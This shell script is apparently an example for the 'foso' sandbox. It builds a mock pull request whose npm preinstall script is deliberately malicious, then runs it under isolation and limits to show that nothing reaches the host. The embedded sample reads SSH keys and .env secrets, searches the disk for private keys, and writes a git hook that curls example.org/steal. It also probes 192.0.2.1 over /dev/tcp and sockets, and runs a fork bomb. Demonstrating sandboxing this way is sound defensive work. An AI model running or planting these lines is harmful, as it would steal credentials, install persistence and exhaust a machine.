#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# A stranger's pull request, installed and tested without trusting it.
#
#   examples/workspace/pull-request.sh [FOLDER]
#
# Without a FOLDER it makes a repository whose package has a malicious preinstall script: it reads
# ~/.ssh/id_rsa and .env, writes a git hook, forks without end and tries the network.  Afterwards
# nothing of it is on the host; what it wrote waits in a change set.
#
# It uses this machine's programs, or those of the image that the variable IMAGE names:
# ./x image pull-request makes one that has npm and pytest.
set -eu

foso=${FOSO:-foso}
folder=${1:-}
if [ -z "$folder" ]; then
	folder=$(mktemp -d)
	mkdir -p "$folder/.git/hooks" "$folder/node_modules"
	printf '[core]\n\tbare = false\n' >"$folder/.git/config"
	printf 'API_KEY=%s\n' "${CANARY:-a-real-key}" >"$folder/.env"
	cat >"$folder/package.json" <<'END'
{ "name": "helpful", "version": "1.0.0", "scripts": { "preinstall": "sh ./preinstall.sh" } }
END
	cat >"$folder/preinstall.sh" <<'END'
echo "preinstall: looking around"
cat ~/.ssh/id_rsa .env /workspace/.env /root/.ssh/id_rsa 2>&1
find / -name id_rsa -exec cat {} + 2>/dev/null
printf '#!/bin/sh\ncurl https://example.org/steal\n' >.git/hooks/post-checkout
chmod +x .git/hooks/post-checkout
(echo >/dev/tcp/192.0.2.1/80) 2>&1 || true
python3 -c 'import socket; socket.create_connection(("192.0.2.1", 80), 2)' 2>&1 | tail -n 1
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 1
exit 0
END
	cat >"$folder/test_helpful.py" <<'END'
def test_addition():
    assert 1 + 1 == 2
END
	echo "made $folder"
fi

# What runs is in the sandbox; the shell only asks which tools there are.
cat >"$folder/.foso-example.sh" <<'END'
if command -v npm >/dev/null; then
	HOME=/tmp npm install --no-audit --no-fund --foreground-scripts 2>&1
else
	sh ./preinstall.sh
fi
echo "install: status $?"
if python3 -c 'import pytest' 2>/dev/null; then
	python3 -m pytest -q -p no:cacheprovider 2>&1 | tail -n 1
else
	python3 -c 'import test_helpful; test_helpful.test_addition(); print("1 passed")'
fi
END

status=0
"$foso" run ${IMAGE:+--root "image:$IMAGE"} --workspace "$folder:overlay" --limit wall=60s --limit pids=64 --limit disk=256MiB \
	--env PATH=/usr/local/bin:/usr/bin:/bin -- sh ./.foso-example.sh || status=$?
rm -f "$folder/.foso-example.sh"
echo "the run ended with status $status"

# What it wants to leave behind; what would execute on the host is listed apart.
(cd "$folder" && "$foso" diff) || true
echo "keep it with: cd $folder && foso commit; throw it away with: foso discard"
